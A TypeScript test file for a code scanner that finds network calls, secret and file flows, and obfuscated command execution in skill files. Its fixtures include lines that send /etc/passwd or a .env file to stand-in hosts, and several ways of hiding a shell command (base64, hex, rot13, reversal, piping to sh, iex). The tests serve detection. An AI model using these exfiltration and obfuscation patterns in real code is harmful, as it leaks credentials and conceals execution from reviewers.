/** Facts about code, with their places in the files as written. */
import { beforeAll, describe, expect, it } from "vitest";
import { analyseCode, codeReportOf } from "../../src/check/scan/code/index.ts";
import type { CodeReport, GrammarLanguage } from "../../src/check/scan/code/index.ts";
import { scan } from "../../src/check/scan/index.ts";
import { TreeSitterReader } from "../../src/platform/syntax/index.ts";
import type { Span } from "../../src/skill/index.ts";

const reader = new TreeSitterReader();

beforeAll(() => reader.load(["python", "javascript", "bash", "powershell"]));

function same(span: Span): Span {
  return span;
}

function analyse(language: GrammarLanguage, text: string): CodeReport {
  return analyseCode([{ file: "a", origin: "file", language, text, original: same }], reader);
}

describe("analyseCode", () => {
  it("tells what code does, for comparison with what a skill declares", () => {
    const text = `
import os, requests, subprocess
from pathlib import Path
key = os.environ["TABLES_KEY"]
requests.put("https://api.tables.dev/v1", headers={"X-Key": key}, json={})
subprocess.run(["git", "status"])
Path("out.txt").write_text(Path("in.txt").read_text())
`;
    expect(analyse("python", text).observed).toEqual({
      hosts: ["api.tables.dev"],
      methods: ["PUT"],
      envNames: ["TABLES_KEY"],
      binaries: ["git"],
      pathsRead: ["in.txt"],
      pathsWritten: ["out.txt"],
    });
  });

  it("shows where a value came from and where it goes", () => {
    const text = 'k = open("/etc/passwd").read()\nrequests.post("https://m.tables.dev", data=k)\n';
    const [flow] = analyse("python", text).flows;
    expect(flow).toMatchObject({ sink: "network", position: "body", host: "m.tables.dev" });
    expect(flow?.source).toMatchObject({ kind: "system-accounts", name: "/etc/passwd" });
    expect(shown(text, flow?.source.place.span)).toBe('open("/etc/passwd")');
    expect(shown(text, flow?.place.span)).toBe('requests.post("https://m.tables.dev", data=k)');
  });

  it.each<[GrammarLanguage, string, string]>([
    ["python", 'os.system("l" + "s")', "ls"],
    ["python", 'a = "l"\nos.system(f"{a}s -{a}")', "ls -l"],
    ["python", 'os.system("".join(["l", "s"]))', "ls"],
    ["python", 'os.system("{0}{n}".format("l", n="s"))', "ls"],
    ["python", 'os.system("%s%s" % ("l", "s"))', "ls"],
    ["python", 'os.system("sl"[::-1])', "ls"],
    ["python", "os.system(chr(108) + chr(115))", "ls"],
    ["python", "os.system(bytes([108, 115]).decode())", "ls"],
    ["python", 'os.system(bytes.fromhex("6c73").decode())', "ls"],
    ["python", 'import base64 as b\nos.system(b.b64decode("bHM=").decode("utf-8"))', "ls"],
    ["python", 'import codecs\nos.system(codecs.decode("yf", "rot13"))', "ls"],
    ["python", String.raw`os.system("\x6c\u0073")`, "ls"],
    ["python", 'c = {"run": "ls"}\nos.system(c["run"])', "ls"],
    ["python", 'def f(x="ls"): return x\nos.system(f())', "ls"],
    ["javascript", 'require("child_process").exec("l" + "s")', "ls"],
    ["javascript", 'const a = "s"; require("child_process").exec(`l${a}`)', "ls"],
    ["javascript", 'require("child_process").exec(atob("bHM="))', "ls"],
    ["javascript", 'require("child_process").exec(Buffer.from("6c73", "hex").toString())', "ls"],
    ["javascript", 'require("child_process").exec(["l", "s"].join(""))', "ls"],
    ["javascript", 'require("child_process").exec("sl".split("").reverse().join(""))', "ls"],
    [
      "javascript",
      'require("child_process").exec([108, 115].map((c) => String.fromCharCode(c)).join(""))',
      "ls",
    ],
    ["bash", "a=l; eval ${a}s", "ls"],
    ["bash", "echo bHM= | base64 -d | sh", "ls"],
    ["bash", "echo 6c73 | xxd -r -p | sh", "ls"],
    ["bash", "echo sl | rev | sh", "ls"],
    ["powershell", 'iex ("l" + "s")', "ls"],
  ])("reads text that is put together in %s: %s", (language, text, expected) => {
    const texts = analyse(language, `import_os = 1\n${text}\n`).executions.map((run) => run.text);
    expect(texts).toContain(expected);
  });

  it("keeps a part of a file apart from the whole of it", () => {
    const text =
      'c = json.load(open(".env"))\nrequests.post("https://a.b", json={"x": c["k"]})\nrequests.post("https://a.b", json=c)\n';
    const parts = analyse("python", text).sends.map(
      ({ carried }) => carried[0]?.source.isPart === true,
    );
    expect(parts).toEqual([true, false]);
  });

  it("gives places in the Markdown file for code in its fences", async () => {
    const skill =
      "---\nname: a\ndescription: b\n---\n\n1. Run:\n\n   ```python\n   import os\n   os.system('ls')\n   ```\n";
    let found: CodeReport | undefined;
    const rule = {
      code: "scan/x",
      title: "X.",
      severity: "low",
      category: "execution",
      check(context: Parameters<typeof codeReportOf>[0]) {
        found = context.ask(codeReportOf);
      },
    } as const;
    const files = [{ path: "SKILL.md", content: skill }];
    await scan({ files, ports: { syntax: reader } }, { rules: [rule] });
    const [run] = found?.executions ?? [];
    expect(run?.place).toMatchObject({ file: "SKILL.md", origin: "fence", language: "python" });
    expect(shown(skill, run?.place.span)).toBe("os.system('ls')");
  });
});

function shown(text: string, span: Span | undefined): string {
  return text.slice(span?.start, span?.end);
}
